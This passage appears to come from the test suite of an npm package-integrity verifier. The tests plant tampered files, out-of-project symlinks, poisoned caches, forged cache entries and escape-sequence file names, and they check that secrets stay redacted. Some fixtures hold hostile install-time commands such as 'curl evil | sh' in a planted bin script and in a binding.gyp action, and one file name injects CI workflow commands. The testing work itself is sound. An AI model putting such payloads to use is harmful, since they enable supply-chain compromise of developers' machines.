      name: 'package.json of an installed package rewritten (another version, another main)',
      change: (dir) => {
        const file = path.join(dir, A, 'package.json')
        writeJson(file, { ...readJson(file), version: '1.0.1', main: 'evil.js' })
        put(dir, `${A}/evil.js`, 'module.exports = "evil"\n')
      },
      expected: INVALID('ECONTENTMODIFIED'),
    },
  ])
})

// Packages whose commands come from `directories.bin`, and whose code loads a folder through
// its own package.json `main`; each with an install script (so added files alone are only
// reported), installed by npm into their own project.
describe('3a. a folder the verifier cannot list (a restored cache decides the modes)', () => {
  const asRoot = process.getuid && process.getuid() === 0
  it('a nested node_modules that may be searched but not read, holding a planted package -> EEXTRANEOUS (exit 1)', { skip: asRoot && 'root reads every folder (CI runs this as root; the same path is covered by the file-instead-of-folder case)' }, async () => {
    const dir = copyProject(clean, 'attack-unlisted')
    folder('node_modules/gamma/node_modules/evil')(dir)
    const nested = path.join(dir, 'node_modules/gamma/node_modules')
    fs.chmodSync(nested, 0o311)
    try {
      await expectVerdict('unlistable nested node_modules', dir, 'node_modules/gamma/node_modules', INVALID('EEXTRANEOUS'))
    } finally {
      fs.chmodSync(nested, 0o755)
    }
  })

  function folder (location) {
    return (dir) => {
      put(dir, `${location}/package.json`, JSON.stringify({ name: path.basename(location), version: '6.6.6' }))
      put(dir, `${location}/index.js`, 'module.exports = "evil"\n')
    }
  }
})

describe('3c. commands and folders Node loads, in packages with install scripts', () => {
  let project
  before(async () => {
    publish(registry, { name: 'dirbin', version: '1.0.0', scripts: { postinstall: BUILD_SCRIPT }, extra: { directories: { bin: './bin' } }, files: { 'bin/run': '#!/usr/bin/env node\nconsole.log("run")\n' } })
    publish(registry, { name: 'libdir', version: '1.0.0', scripts: { postinstall: BUILD_SCRIPT }, files: { 'index.js': "module.exports = require('./lib/c')\n", 'lib/c/package.json': '{"main":"main.js"}\n', 'lib/c/main.js': "module.exports = 'c'\n" } })
    project = writeProject(tempDir('attack-3c'), { name: 'victim-3c', version: '1.0.0', dependencies: { dirbin: '1.0.0', libdir: '1.0.0' } })
    await npm(['install'], { cwd: project, registry: url, cache: npmCache })
    fs.writeFileSync(path.join(project, '.npmrc'), `cache=${npmCache}\n`)
  })
  const loadable = INVALID('ECONTENTLOADABLE')
  const list = [
    { name: 'control: as installed (the build output of the install scripts only reported)', location: 'node_modules/dirbin', change: () => {}, expected: { exit: 0, status: 'verified', code: null } },
    { name: '.bin/node linked to dirbin\'s signed bin/run (directories.bin links each file under its own name)', location: 'node_modules/.bin/node', change: (dir) => relink(dir, 'node_modules/.bin/node', '../dirbin/bin/run'), expected: INVALID('EBINLINK') },
    { name: 'an added file under directories.bin (npm links it as a command at the next install)', location: 'node_modules/dirbin', change: (dir) => put(dir, 'node_modules/dirbin/bin/tsc', '#!/bin/sh\ncurl evil | sh\n'), expected: loadable },
    { name: 'an added lib/c.js beside the folder lib/c/ that loads through its package.json main', location: 'node_modules/libdir', change: (dir) => put(dir, 'node_modules/libdir/lib/c.js', "module.exports = 'evil'\n"), expected: loadable },
  ]
  for (const c of list) {
    it(`${c.name} -> ${c.expected.code || 'pass'} (exit ${c.expected.exit})`, async () => {
      const dir = copyProject(project, 'attack-3c')
      await c.change(dir)
      await expectVerdict(c.name, dir, c.location, c.expected)
    })
  }
})

describe('3b. links the lockfile does not install (a restored node_modules)', () => {
  it('a registry package\'s folder replaced by a link to a copy outside the project (holding an extra nested package) -> fails', async () => {
    const dir = copyProject(clean, 'attack-linked-folder')
    const outside = `${dir}-outside/alpha`
    fs.cpSync(path.join(dir, A), outside, { recursive: true })
    put(outside, 'node_modules/evil/index.js', 'module.exports = "evil"\n')
    relink(dir, A, outside)
    const { fromCli, fromApi, run: r } = await verdicts(dir, A)
    const doc = JSON.parse(r.stdout)
    const failures = doc.invalid.map((p) => `${p.location}:${p.code}`)
    record('a registry package folder linked to a copy outside the project', { exit: 1, status: 'invalid', code: 'ECONTENTMODIFIED|EEXTRANEOUS' }, { cli: fromCli, api: fromApi && { exit: fromApi.exit, status: fromApi.status, code: fromApi.code }, failures })
    assert.equal(r.status, 1, `a link npm never makes for a registry package passed; failures: ${failures.join(', ')}`)
    assert.ok(fromCli.status === 'invalid' || failures.some((f) => f.startsWith(`${A}/node_modules/evil`)), failures.join(', '))
  })

  it('node_modules/.bin replaced by a link to a folder outside the project whose links lead outside -> EBINLINK', async () => {
    const dir = copyProject(clean, 'attack-linked-bin')
    const outside = `${dir}-outside`
    put(outside, 'alpha/cli.js', '#!/bin/sh\ncurl evil | sh\n')
    fs.mkdirSync(path.join(outside, 'bin'))
    // Relative as npm writes it, so it reads as node_modules/alpha/cli.js, but resolves to outside/alpha/cli.js.
    fs.symlinkSync('../alpha/cli.js', path.join(outside, 'bin', 'alpha'))
    relink(dir, 'node_modules/.bin', path.join(outside, 'bin'))
    assert.equal(fs.realpathSync(path.join(dir, 'node_modules/.bin/alpha')), fs.realpathSync(path.join(outside, 'alpha/cli.js')))
    const r = await cli(['verify', dir, '--registry', url, '--json'])
    const doc = JSON.parse(r.stdout)
    const failures = doc.invalid.map((p) => `${p.location}:${p.code}`)
    record('node_modules/.bin linked to a folder outside the project', { exit: 1, code: 'EBINLINK' }, { exit: r.status, failures })
    assert.equal(r.status, 1, `running node_modules/.bin/alpha runs ${outside}/alpha/cli.js, and the tree passed`)
    assert.ok(failures.some((f) => f.startsWith('node_modules/.bin') && f.endsWith(':EBINLINK')), failures.join(', '))
  })
})

describe('4. added files that change what Node loads (ECONTENTLOADABLE)', () => {
  for (const [name, scripted] of [['kit', false], ['kit-built', true]]) {
    const location = `node_modules/${name}`
    const add = (rel, content = 'module.exports = "evil"\n') => (dir) => put(dir, `${location}/${rel}`, content)
    const loadable = INVALID('ECONTENTLOADABLE')
    const label = scripted ? 'with install scripts' : 'without install scripts'
    cases([
      { name: `${name} (${label}): \`index\` beside index.js`, location, change: add('index'), expected: loadable },
      { name: `${name} (${label}): lib/a.js beside lib/a.json`, location, change: add('lib/a.js'), expected: loadable },
      { name: `${name} (${label}): lib/b.js beside the lib/b/ folder`, location, change: add('lib/b.js'), expected: loadable },
      { name: `${name} (${label}): a .node addon deep inside`, location, change: add('build/Release/evil.node', Buffer.from([0x7f, 0x45, 0x4c, 0x46])), expected: loadable },
      { name: `${name} (${label}): a .node addon at the top`, location, change: add('evil.node', Buffer.from([0x7f, 0x45, 0x4c, 0x46])), expected: loadable },
      { name: `${name} (${label}): the main target dist/main.js the tarball lacks`, location, change: add('dist/main.js'), expected: loadable },
      { name: `${name} (${label}): the exports target lib/feature.js the tarball lacks`, location, change: add('lib/feature.js'), expected: loadable },
      { name: `${name} (${label}): the bin target bin/${name}.js the tarball lacks`, location, change: add(`bin/${name}.js`, '#!/usr/bin/env node\n'), expected: loadable },
      {
        name: `${name} (${label}): a plain README.txt`,
        location,
        change: add('README.txt', 'hello\n'),
        expected: scripted ? { exit: 0, status: 'verified', code: null } : INVALID('ECONTENTADDED'),
      },
      { name: `${name} (${label}): a modified tarball file`, location, change: add('lib/b/index.js'), expected: INVALID('ECONTENTMODIFIED') },
      {
        // LOAD_AS_DIRECTORY reads X/package.json "main" before X/index.js: require('./lib/b') loads evil.js.
        name: `${name} (${label}): lib/b/package.json (main: evil.js) and lib/b/evil.js beside lib/b/index.js`,
        location,
        change: (dir) => { add('lib/b/package.json', '{ "main": "evil.js" }\n')(dir); add('lib/b/evil.js')(dir) },
        expected: loadable,
      },
    ])
  }
})

describe('4b. an added binding.gyp makes npm build and run it at the next install or rebuild', () => {
  cases([
    {
      name: 'kit-built (with install scripts): an added binding.gyp (npm adds `node-gyp rebuild` as its install script)',
      location: 'node_modules/kit-built',
      change: (dir) => put(dir, 'node_modules/kit-built/binding.gyp', '{ "targets": [{ "target_name": "x", "actions": [{ "action_name": "a", "inputs": [], "outputs": ["o"], "action": ["sh", "-c", "curl evil | sh"] }] }] }\n'),
      expected: INVALID('ECONTENTLOADABLE'),
    },
  ])
})

describe('5. evidence that cannot be obtained never passes (ETARBALLUNAVAILABLE)', () => {
  const alphaTarball = () => tarballOf(registry, 'alpha', '1.0.0')
  /** Runs `fn` while the registry serves `bytes` (or 404 when null) for alpha's tarball. */
  async function serving (bytes, fn) {
    const { path: p, bytes: saved } = alphaTarball()
    if (bytes) registry.tarballs.set(p, bytes)
    else registry.tarballs.delete(p)
    try {
      return await fn()
    } finally {
      registry.tarballs.set(p, saved)
    }
  }
  /** A copy whose content check looks in `cache` for npm's cached tarballs. */
  function withNpmCache (cache) {
    const dir = copyProject(clean, 'attack-tarball')
    fs.writeFileSync(path.join(dir, '.npmrc'), `cache=${cache}\n`)
    return dir
  }
  /** Another tarball for alpha@1.0.0 (index.js changed), and that change made on disk. */
  function evilAlpha (dir) {
    const files = {
      'package.json': fs.readFileSync(path.join(dir, A, 'package.json'), 'utf8'),
      'index.js': 'module.exports = "evil"\n',
      'cli.js': fs.readFileSync(path.join(dir, A, 'cli.js'), 'utf8'),
    }
    put(dir, `${A}/index.js`, files['index.js'])
    return tarball(files)
  }
  const unavailable = { exit: 3, status: 'invalid', code: 'ETARBALLUNAVAILABLE' }
  const verified = { exit: 0, status: 'verified', code: null }

  it('not in npm\'s cache and the registry answers 404 for the tarball -> ETARBALLUNAVAILABLE, exit 3 (the only failure)', async () => {
    const dir = withNpmCache(tempDir('attack-empty-npm-cache'))
    await serving(null, () => expectVerdict('tarball: not in npm\'s cache, registry 404', dir, A, unavailable))
  })

  it('--no-content is the explicit way to skip it -> exit 0', async () => {
    const dir = withNpmCache(tempDir('attack-empty-npm-cache'))
    await serving(null, () => expectVerdict('tarball: not in npm\'s cache, registry 404, --no-content', dir, A, verified, { contents: false }))
  })

  it('control: the registry answers 404 but npm\'s cache has the signed tarball -> exit 0', async () => {
    const dir = withNpmCache(npmCache)
    await serving(null, () => expectVerdict('tarball: registry 404, in npm\'s cache (control)', dir, A, verified))
  })

  it('npm\'s cache holds other bytes under the signed integrity (poisoned), installed files match them, registry 404 -> ETARBALLUNAVAILABLE', async () => {
    const poisoned = copyProject(npmCache, 'attack-poisoned-npm-cache')
    const dir = withNpmCache(poisoned)
    fs.writeFileSync(cacachePath(poisoned, integrityOf('alpha', '1.0.0')), evilAlpha(dir))
    await serving(null, () => expectVerdict('tarball: npm cache poisoned, registry 404', dir, A, unavailable))
  })

  it('npm\'s cache poisoned the same way, the registry serves the signed tarball -> ECONTENTMODIFIED', async () => {
    const poisoned = copyProject(npmCache, 'attack-poisoned-npm-cache')
    const dir = withNpmCache(poisoned)
    fs.writeFileSync(cacachePath(poisoned, integrityOf('alpha', '1.0.0')), evilAlpha(dir))
    await expectVerdict('tarball: npm cache poisoned, registry serves the signed one', dir, A, INVALID('ECONTENTMODIFIED'))
  })

  // The installed files are compared while the registry checks run, with the tarball the
  // lockfile pins; that comparison may only stand for a package whose signed integrity is the same.
  it('the lockfile pins another tarball (in npm\'s cache, its files installed): the files are compared with the signed one -> ECONTENTMODIFIED too', async () => {
    const poisoned = copyProject(npmCache, 'attack-lockfile-pins-other-tarball')
    const dir = withNpmCache(poisoned)
    const evil = evilAlpha(dir)
    fs.mkdirSync(path.dirname(cacachePath(poisoned, sri(evil))), { recursive: true })
    fs.writeFileSync(cacachePath(poisoned, sri(evil)), evil)
    editLock(dir, (p) => { p[A].integrity = sri(evil) })
    for (const contentsCheck of [{ api: false }, { api: false, extra: ['--rehash'] }]) {
      const { run: r, doc, fromCli } = await verdicts(dir, A, contentsCheck)
      assert.deepEqual(fromCli, INVALID('EINTEGRITYMISMATCH'), r.stdout + r.stderr)
      const { entry } = jsonVerdict(doc, A)
      assert.equal(entry.checks.contents.state, 'failed', JSON.stringify(entry.checks))
      assert.equal(entry.checks.contents.code, 'ECONTENTMODIFIED', JSON.stringify(entry.checks))
    }
    const report = await verifyTree({ dir, registry: url })
    const alpha = report.packages.find((p) => p.location === A)
    assert.equal(alpha.checks.contents.code, 'ECONTENTMODIFIED', JSON.stringify(alpha.checks))
    // Control: with the lockfile's integrity put back, the same installed files fail only their contents.
    editLock(dir, (p) => { p[A].integrity = integrityOf('alpha', '1.0.0') })
    await expectVerdict('lockfile pins the signed tarball again, files still evil', dir, A, INVALID('ECONTENTMODIFIED'))
  })

  it('--offline with a store but no tarballs in npm\'s cache -> ETARBALLUNAVAILABLE, exit 3', async () => {
    const dir = withNpmCache(tempDir('attack-empty-npm-cache'))
    const store = tempDir('attack-store')
    const fetched = await cli(['fetch', dir, '--registry', url, '--out', store])
    assert.equal(fetched.status, 0, fetched.stderr)
    await expectVerdict('tarball: --offline, not in npm\'s cache', dir, A, unavailable, { api: false, extra: ['--offline', store] })
  })

  it('the registry (a mirror) serves other bytes than the signed tarball, installed files match them -> ETARBALLMISMATCH, exit 1', async () => {
    const dir = withNpmCache(tempDir('attack-empty-npm-cache'))
    const evil = evilAlpha(dir)
    assert.notEqual(sri(evil), integrityOf('alpha', '1.0.0'))
    await serving(evil, () => expectVerdict('tarball: the registry serves other bytes', dir, A, INVALID('ETARBALLMISMATCH')))
  })
})

describe('6. a shared cache folder the attacker can write (but not the key)', () => {
  const KEY_A = crypto.randomBytes(24).toString('hex')
  const KEY_B = crypto.randomBytes(24).toString('hex')
  const MAGIC = 8
  const HEADER = 8 + 1 + 32 + 8

  before(() => { registry.cacheControl = 'public, max-age=300' })
  after(() => { registry.cacheControl = null })
  afterEach(() => registry.tamper.clear())

  function cachedVerify (cacheDir, key, env = {}) {
    const keyEnv = key === undefined ? {} : { NPM_SIGVERIFY_CACHE_KEY: key }
    return cli(['verify', clean, '--registry', url, '--cache', cacheDir, '--no-content', '--json'], { env: { ...keyEnv, ...env } })
  }
  function entryFiles (cacheDir) {
    return listFiles(path.join(cacheDir, 'v1')).filter((f) => !path.basename(f).startsWith('.tmp-')).map((f) => path.join(cacheDir, 'v1', f))
  }
  async function firstRun (cacheDir, key = KEY_A) {
    const r = await cachedVerify(cacheDir, key)
    assert.equal(r.status, 0, r.stdout + r.stderr)
    assert.equal(JSON.parse(r.stdout).cache, 'disk')
    assert.ok(entryFiles(cacheDir).length > 0, 'the first run wrote cache entries')
  }
  /** After the attacker's change, alpha's registry signature is tampered: the next run must see it. */
  async function expectTamperSeen (name, cacheDir, key = KEY_A) {
    registry.tamper.add('alpha@1.0.0')
    const r = await cachedVerify(cacheDir, key)
    const doc = JSON.parse(r.stdout)
    const found = jsonVerdict(doc, A)
    const actual = { exit: r.status, status: found && found.status, code: found && found.code }
    const expected = INVALID('EINTEGRITYSIGNATURE')
    record(name, expected, { cli: actual })
    assert.deepEqual(actual, expected, `${name}: a forged or stale cache kept the tampered package verified\n${r.stdout.slice(0, 3000)}\n${r.stderr}`)
  }

  it('control: an untouched fresh cache (max-age 300) keeps serving its authentic evidence', async () => {
    const cacheDir = tempDir('attack-cache-control')
    await firstRun(cacheDir)
    registry.tamper.add('alpha@1.0.0')
    const r = await cachedVerify(cacheDir, KEY_A)
    assert.equal(r.status, 0, 'fresh authentic evidence is used without asking the registry (by design)')
    assert.equal(jsonVerdict(JSON.parse(r.stdout), A).status, 'verified')
    record('cache: untouched fresh cache (control)', { exit: 0, status: 'verified' }, { exit: r.status })
  })

  it('entries with a flipped byte (body or tag) are misses: the tampered signature is seen', async () => {
    const cacheDir = tempDir('attack-cache-flip')
    await firstRun(cacheDir)
    entryFiles(cacheDir).forEach((file, i) => {
      const bytes = fs.readFileSync(file)
      const at = i % 2 ? bytes.length - 2 : MAGIC + 1 + 5 // a body byte, or a tag byte
      bytes[at] ^= 0x01
      fs.writeFileSync(file, bytes)
    })
    await expectTamperSeen('cache: entries with a flipped byte', cacheDir)
  })

  it('entries truncated to their header are misses', async () => {
    const cacheDir = tempDir('attack-cache-truncate')
    await firstRun(cacheDir)
    for (const file of entryFiles(cacheDir)) fs.writeFileSync(file, fs.readFileSync(file).subarray(0, HEADER))
    await expectTamperSeen('cache: entries truncated', cacheDir)
  })

  it('entries written under another key (a second run into a copy) and copied over are misses', async () => {
    const cacheDir = tempDir('attack-cache-foreign')
    await firstRun(cacheDir)
    const attackers = copyProject(cacheDir, 'attack-cache-attacker')
    await firstRun(attackers, KEY_B)
    const copied = entryFiles(attackers)
    for (const file of copied) {
      const to = path.join(cacheDir, path.relative(attackers, file))
      fs.mkdirSync(path.dirname(to), { recursive: true })
      fs.copyFileSync(file, to)
    }
    assert.ok(copied.length > 0)
    await expectTamperSeen('cache: entries written under another key', cacheDir)
  })

  it('entries downgraded to unkeyed (a plain SHA-256 tag anyone can compute) are misses', async () => {
    const cacheDir = tempDir('attack-cache-unkeyed')
    await firstRun(cacheDir)
    for (const file of entryFiles(cacheDir)) {
      const bytes = fs.readFileSync(file)
      const payload = bytes.subarray(HEADER)
      const header = Buffer.from(bytes.subarray(0, HEADER))
      header[MAGIC] = 0
      crypto.createHash('sha256').update(payload).digest().copy(header, MAGIC + 1)
      fs.writeFileSync(file, Buffer.concat([header, payload]))
    }
    await expectTamperSeen('cache: entries downgraded to unkeyed', cacheDir)
  })

  it('stale entries (past the registry\'s max-age), also replayed from an older copy, are not used', async () => {
    registry.cacheControl = 'public, max-age=1'
    try {
      const cacheDir = tempDir('attack-cache-stale')
      await firstRun(cacheDir)
      const old = copyProject(cacheDir, 'attack-cache-old')
      await new Promise((resolve) => setTimeout(resolve, 1500))
      await expectTamperSeen('cache: stale entries', cacheDir)
      fs.rmSync(path.join(cacheDir, 'v1'), { recursive: true })
      fs.cpSync(path.join(old, 'v1'), path.join(cacheDir, 'v1'), { recursive: true })
      await expectTamperSeen('cache: stale entries replayed from an older copy', cacheDir)
    } finally {
      registry.cacheControl = 'public, max-age=300'
    }
  })

  it('without a configured key the local cache makes its own key file, mode 0600, outside the cache folder', async () => {
    const config = tempDir('attack-xdg-config')
    const cacheDir = tempDir('attack-cache-ownkey')
    const env = { XDG_CONFIG_HOME: config, NPM_SIGVERIFY_CACHE_KEY: '', NPM_SIGVERIFY_CACHE_KEY_FILE: '' }
    const r = await cachedVerify(cacheDir, undefined, env)
    assert.equal(r.status, 0, r.stdout + r.stderr)
    const doc = JSON.parse(r.stdout)
    assert.equal(doc.cache, 'disk', JSON.stringify(doc.warnings))
    const keyFile = path.join(config, 'npm-sigverify', 'cache.key')
    assert.ok(fs.existsSync(keyFile), `no key file at ${keyFile}`)
    const mode = fs.statSync(keyFile).mode & 0o777
    const key = fs.readFileSync(keyFile, 'utf8').trim()
    record('cache: own key file', { mode: '600' }, { mode: mode.toString(8), length: key.length })
    assert.equal(mode.toString(8), '600')
    assert.ok(key.length >= 16)
    for (const file of entryFiles(cacheDir)) assert.ok(!fs.readFileSync(file).includes(key), `${file} holds the key`)
    const again = await cachedVerify(cacheDir, undefined, env)
    assert.equal(again.status, 0)
    assert.equal(fs.readFileSync(keyFile, 'utf8').trim(), key, 'the key file is reused, not replaced')
  })

  it('a key file others can read (planted with mode 0644) is refused: the cache is not used', async () => {
    const config = tempDir('attack-xdg-config-shared')
    const keyFile = path.join(config, 'npm-sigverify', 'cache.key')
    put(config, 'npm-sigverify/cache.key', 'an-attacker-known-key-0123456789\n')
    fs.chmodSync(keyFile, 0o644)
    const cacheDir = tempDir('attack-cache-sharedkey')
    const r = await cachedVerify(cacheDir, undefined, { XDG_CONFIG_HOME: config, NPM_SIGVERIFY_CACHE_KEY: '' })
    const doc = JSON.parse(r.stdout)
    record('cache: key file readable by others', { cache: 'off' }, { exit: r.status, cache: doc.cache })
    assert.equal(doc.cache, 'off', `a shared key file was used: ${JSON.stringify(doc.warnings)}`)
    assert.match(doc.warnings.join('\n'), /accessible to other users/)
  })
})

describe('7. no secret in any output', () => {
  const SECRET = 's3cret-Pa55w0rd-xyzzy'
  const TOKEN = 'npm_T0kenThatMustNeverLeak0123456789'

  /** Fails when `text` holds the password or the token. */
  function clean7 (what, text) {
    for (const secret of [SECRET, TOKEN]) assert.ok(!String(text).includes(secret), `${what} leaks ${secret}:\n${String(text).slice(0, 4000)}`)
  }

  it('URL credentials in the lockfile and .npmrc, and an _authToken, never appear in --json, reports, the audit log, --trace or messages', async () => {
    const dir = copyProject(clean, 'attack-secrets')
    const port = new URL(url).port
    const authed = url.replace('http://', `http://user:${SECRET}@`)
    editLock(dir, (p) => {
      for (const entry of Object.values(p)) {
        if (entry.resolved && entry.resolved.startsWith(url)) entry.resolved = entry.resolved.replace(url, authed)
      }
      // A mirror host, so a source failure quotes the URL too.
      p['node_modules/@acme/scoped'].resolved = `http://user:${SECRET}@localhost:${port}/@acme/scoped/-/scoped-1.0.0.tgz`
    })
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${authed}\n//127.0.0.1:${port}/:_authToken=${TOKEN}\ncache=${tempDir('attack-empty-npm-cache')}\n`)
    const out = tempDir('attack-secret-reports')
    const reports = ['json=r.json', 'sarif=r.sarif', 'junit=r.xml', 'html=r.html', 'markdown=r.md'].map((s) => s.replace('=', `=${out}/`)).join(',')
    const { path: toolTarball, bytes: toolBytes } = tarballOf(registry, 'tool', '1.0.0')
    registry.tamper.add('beta@1.0.0')
    registry.tarballs.delete(toolTarball)
    let runs, report
    try {
      runs = {
        human: await cli(['verify', dir]),
        json: await cli(['verify', dir, '--json']),
        reports: await cli(['verify', dir, '--report', reports, '--audit-log', path.join(out, 'audit.jsonl'), '--trace']),
        explicitRegistry: await cli(['verify', dir, '--registry', authed, '--json', '--trace']),
        explain: await cli(['explain', '@acme/scoped', dir]),
        risk: await cli(['risk', dir, '--json']),
      }
      report = JSON.stringify(await verifyTree({ dir })) + JSON.stringify(await verifyPackage('beta@1.0.0', { dir, registry: authed }))
    } finally {
      registry.tamper.clear()
      registry.tarballs.set(toolTarball, toolBytes)
    }
    // Not vacuous: the runs failed and quoted the URLs (redacted).
    assert.equal(runs.json.status, 1, runs.json.stdout + runs.json.stderr)
    const doc = JSON.parse(runs.json.stdout)
    assert.equal(jsonVerdict(doc, BETA).code, 'EINTEGRITYSIGNATURE')
    assert.equal(jsonVerdict(doc, 'node_modules/tool').code, 'ETARBALLUNAVAILABLE')
    assert.equal(jsonVerdict(doc, 'node_modules/@acme/scoped').code, 'ELOCKFILESOURCE')
    assert.match(runs.json.stdout, /\*\*\*@/)
    for (const [name, r] of Object.entries(runs)) {
      clean7(`${name} stdout`, r.stdout)
      clean7(`${name} stderr`, r.stderr)
    }
    assert.match(runs.reports.stderr, /slowest packages/, 'the --trace run printed its trace')
    const files = fs.readdirSync(out)
    assert.deepEqual(files.sort(), ['audit.jsonl', 'r.html', 'r.json', 'r.md', 'r.sarif', 'r.xml'])
    for (const f of files) {
      const text = fs.readFileSync(path.join(out, f), 'utf8')
      assert.ok(text.length > 100, `${f} is empty`)
      clean7(f, text)
    }
    clean7('verifyTree() and verifyPackage()', report)
    record('secrets: lockfile/.npmrc credentials in every output', { leaks: 0 }, { leaks: 0 })
  })

  it('error messages and warnings hide them too: unreachable registry, Redis URL, bad URL, verify-package, fetch store', async () => {
    const dir = copyProject(clean, 'attack-secrets-errors')
    const dead = `http://user:${SECRET}@127.0.0.1:9/`
    const store = tempDir('attack-secret-store')
    fs.writeFileSync(path.join(dir, '.npmrc'), `//127.0.0.1:${new URL(url).port}/:_authToken=${TOKEN}\n`)
    const runs = {
      unreachable: await cli(['verify', dir, '--registry', dead, '--retries', '0', '--timeout', '2000', '--json']),
      unreachableHuman: await cli(['verify', dir, '--registry', dead, '--retries', '0', '--timeout', '2000']),
      redis: await cli(['verify', dir, '--registry', url, '--cache', `redis://:${SECRET}@127.0.0.1:9/0`, '--no-content', '--json']),
      badUrl: await cli(['verify', dir, '--registry', `http://user:${SECRET}@[broken/`]),
      verifyPackage: await cli(['verify-package', 'alpha@1.0.0', '--registry', dead, '--retries', '0']),
      fetch: await cli(['fetch', dir, '--registry', url.replace('http://', `http://user:${SECRET}@`), '--out', store]),
    }
    assert.notEqual(runs.unreachable.status, 0)
    assert.equal(runs.badUrl.status, 2, runs.badUrl.stderr)
    assert.match(JSON.parse(runs.redis.stdout).warnings.join('\n'), /cache unavailable/)
    for (const [name, r] of Object.entries(runs)) {
      clean7(`${name} stdout`, r.stdout)
      clean7(`${name} stderr`, r.stderr)
    }
    assert.equal(runs.fetch.status, 0, runs.fetch.stderr)
    for (const f of listFiles(store)) {
      clean7(`store file name ${f}`, f)
      clean7(`store file ${f}`, fs.readFileSync(path.join(store, f), 'utf8'))
    }
    record('secrets: error messages, warnings, offline store', { leaks: 0 }, { leaks: 0 })
  })
})

describe('7b. passwords URL parsers keep unencoded, and text that would steer a terminal or CI log', () => {
  const PASSWORD = "S3cr,et'Pa)55-xyzzy"

  it('a registry password holding , \' ) is hidden in the output, every report and the JS API\'s errors', async () => {
    const dir = copyProject(clean, 'attack-secret-chars')
    // A registry that is down: every message quotes its URL.
    const down = `http://ci-bot:${PASSWORD}@127.0.0.1:9/`
    fs.writeFileSync(path.join(dir, '.npmrc'), `registry=${down}\ncache=${tempDir('attack-empty-npm-cache')}\n`)
    editLock(dir, (p) => {
      for (const entry of Object.values(p)) {
        if (entry.resolved && entry.resolved.startsWith(url)) entry.resolved = entry.resolved.replace(url, down)
      }
    })
    const out = tempDir('attack-secret-chars-reports')
    const reports = ['json', 'sarif', 'junit', 'html', 'markdown'].map((f) => `${f}=${out}/r.${f}`).join(',')
    const runs = {
      human: await cli(['verify', dir, '--timeout', '2000', '--retries', '0']),
      reports: await cli(['verify', dir, '--json', '--timeout', '2000', '--retries', '0', '--report', reports]),
    }
    assert.equal(runs.human.status, 3, runs.human.stdout + runs.human.stderr)
    assert.match(runs.reports.stdout, /\*\*\*@127\.0\.0\.1:9/, 'the runs quoted the registry URL (redacted)')
    const leaks = (what, text) => assert.ok(!text.includes('S3cr,et') && !text.includes('Pa)55'), `${what} leaks the password:\n${text.slice(0, 3000)}`)
    for (const [name, r] of Object.entries(runs)) {
      leaks(`${name} stdout`, r.stdout)
      leaks(`${name} stderr`, r.stderr)
    }
    for (const f of fs.readdirSync(out)) leaks(f, fs.readFileSync(path.join(out, f), 'utf8'))
    // A proxy URL no parser accepts is quoted in the error, without its credentials.
    const proxied = copyProject(clean, 'attack-secret-proxy')
    fs.writeFileSync(path.join(proxied, '.npmrc'), `https-proxy=http://proxyuser:${PASSWORD}@proxy.internal:99999/\n`)
    await assert.rejects(verifyTree({ dir: proxied }), (e) => {
      leaks('verifyTree() error', String(e.message))
      assert.match(e.message, /proxy/)
      return true
    })
  })

  it('a file name with a line break and escape sequences cannot write a line of its own (a workflow command) or move the cursor', async () => {
    const dir = copyProject(clean, 'attack-newline-name')
    const evil = 'x\n::add-mask::ECONTENTADDED\n::stop-commands::t0k\n\u001b[5A\u001b[J1 pass, 0 warn, 0 fail; exit code 0\u001b[8m.js'
    put(dir, `node_modules/kit/${evil}`, 'module.exports = 1\n')
    const r = await cli(['verify', dir, '--registry', url], { env: { GITHUB_ACTIONS: 'true' } })
    assert.equal(r.status, 1, r.stdout + r.stderr)
    assert.match(r.stdout, /ECONTENTADDED/)
    for (const stream of [r.stdout, r.stderr]) {
      assert.ok(!/^::(add-mask|stop-commands)::/m.test(stream), `a line of the attacker's:\n${stream}`)
      assert.ok(!stream.includes('\u001b[5A') && !stream.includes('\u001b[8m'), `an escape sequence reached the terminal:\n${stream}`)
    }
    assert.match(r.stdout, /\\u\{a\}::add-mask::/, 'the line break is shown, escaped')
  })
})

describe('8-9. the packed package: safe install arguments and init hooks', () => {
  let bin, hooked, locked

  before(async () => {
    const { tgz } = await packRepo()
    hooked = writeProject(tempDir('attack-hooked'), { name: 'hooked', version: '1.0.0' })
    await npm(['install', tgz, 'plain@1.0.0', '--ignore-scripts'], { cwd: hooked, registry: url, cache: npmCache })
    fs.rmSync(path.dirname(tgz), { recursive: true, force: true })
    bin = path.join(hooked, 'node_modules', 'npm-sigverify', 'bin', 'npm-sigverify.js')
    // The registry comes from .npmrc, as in most projects (so `install` passes no --registry to npm).
    locked = writeProject(tempDir('attack-locked'), {
      name: 'locked',
      version: '1.0.0',
      dependencies: { scripted: '1.0.0', plain: '1.0.0' },
      'npm-sigverify': { allowScripts: [] },
    }, { '.npmrc': `registry=${url}\n` })
    await npm(['install', '--package-lock-only', '--ignore-scripts'], { cwd: locked, registry: url, cache: npmCache })
  })

  afterEach(() => registry.tamper.clear())
  // The packed addon is large: do not leave a copy of it behind per run.
  after(() => fs.rmSync(hooked, { recursive: true, force: true }))

  /** `npm-sigverify install DIR -- ...extra` from the packed package, on a copy of `locked`. */
  async function safeInstall (extra, allowScripts = []) {
    const dir = copyProject(locked, 'attack-install')
    const pkgFile = path.join(dir, 'package.json')
    writeJson(pkgFile, { ...readJson(pkgFile), 'npm-sigverify': { allowScripts } })
    const env = { npm_config_registry: url, npm_config_cache: npmCache, npm_config_update_notifier: 'false', INIT_CWD: dir }
    const r = await run(process.execPath, [bin, 'install', dir, ...(extra ? ['--', ...extra] : [])], { cwd: dir, env })
    return { r, dir, state: { exit: r.status, usage: /EUSAGE/.test(r.stderr), installed: exists(dir, 'node_modules'), scriptRan: exists(dir, 'scripted.ran') } }
  }

  it('control: no extra arguments, an empty allowScripts -> installed, the postinstall withheld', async () => {
    const { r, state } = await safeInstall(null)
    assert.deepEqual(state, { exit: 0, usage: false, installed: true, scriptRan: false }, r.output)
  })

  it('control: allowScripts names the package -> its postinstall runs after verification (the marker works)', async () => {
    const { r, state } = await safeInstall(null, ['scripted'])
    assert.deepEqual(state, { exit: 0, usage: false, installed: true, scriptRan: true }, r.output)
  })

  it('control: harmless flags in --flag=value form pass through', async () => {
    const { r, state } = await safeInstall(['--omit=dev', '--no-audit', '--loglevel=warn'])
    assert.deepEqual(state, { exit: 0, usage: false, installed: true, scriptRan: false }, r.output)
  })

  const refused = { exit: 2, usage: true, installed: false, scriptRan: false }
  const prefix = tempDir('attack-prefix')
